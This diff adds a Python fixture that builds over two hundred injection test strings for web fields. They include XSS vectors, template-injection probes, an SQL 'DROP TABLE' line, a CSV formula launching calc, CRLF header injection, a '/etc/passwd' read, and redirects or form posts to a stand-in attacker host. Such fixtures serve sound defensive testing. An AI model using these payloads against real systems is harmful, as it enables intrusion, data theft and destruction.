@@ -1,0 +1,50 @@
+"""Two hundred and more texts with which somebody tries to make a page, a mail or a paper run."""
+
+CORES = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=javascript:alert(1)>klik</a>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<style>@import 'javascript:alert(1)'</style>",
+    "<base href=//kwaad.example/>",
+    "<meta http-equiv=refresh content=0;url=//kwaad.example>",
+    "<object data=javascript:alert(1)>",
+    "<form action=//kwaad.example><button>x</button></form>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "${alert(1)}",
+    "{{7*7}}",
+    "{% include 'x' %}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "'; DROP TABLE plans_goal; --",
+    '" onmouseover=alert(1) x="',
+    "' hx-get=//kwaad.example x='",
+    "\u202e<script>alert(1)</script>",
+    "<\u200bscript>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "=cmd|' /C calc'!A0",
+    "BEGIN:VEVENT\r\nATTACH:http://kwaad.example",
+    "Bcc: iedereen@example.org\r\n\r\nDag",
+    '#read("/etc/passwd")',
+)
+AROUND = (
+    ("", ""),
+    ('">', "<!--"),
+    ("'>", '<"'),
+    ("</textarea>", ""),
+    ("</title></script>", "//"),
+    ("--><![CDATA[", "]]>"),
+)
+PAYLOADS = [f"{before}{core}{after}" for core in CORES for before, after in AROUND]
+BREAKS_OUT = "\"'></script><kwaad x=y>"
+"""Leaves a text, both kinds of attribute and a script; short enough for every field of words."""
